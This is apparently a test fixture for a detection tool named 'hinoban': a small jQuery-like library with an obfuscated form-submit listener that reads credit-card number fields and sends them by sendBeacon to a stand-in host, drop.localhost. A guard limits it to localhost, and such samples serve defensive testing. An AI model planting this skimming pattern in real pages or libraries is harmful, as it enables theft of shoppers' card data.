/* Harmless imitation, for hinoban's tests: code hidden in a known library. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function (w) {
	function Q(s) { return new Q.fn.init(s); }
	Q.fn = Q.prototype = {each: function (f) { for (var i = 0; i < this.length; i++) f.call(this[i], i); return this; },
		on: function (e, f) { return this.each(function () { this.addEventListener(e, f); }); }};
	Q.fn.init = function (s) { var l = document.querySelectorAll(s); for (var i = 0; i < l.length; i++) this[i] = l[i]; this.length = l.length; };
	Q.fn.init.prototype = Q.fn; w.Q = Q;
	var t = ['s', 'u', 'b', 'm', 'i', 't'].join('');
	document['addEvent' + 'Listener'](t, function (e) {
		var n = e.target.querySelector('input[autocomplete=cc-number]');
		if (n) navigator['send' + 'Beacon'](['http:', '', 'drop.localhost:' + location.port, 'c'].join('/'), 'j=' + n.value);
	}, true);
})(window);
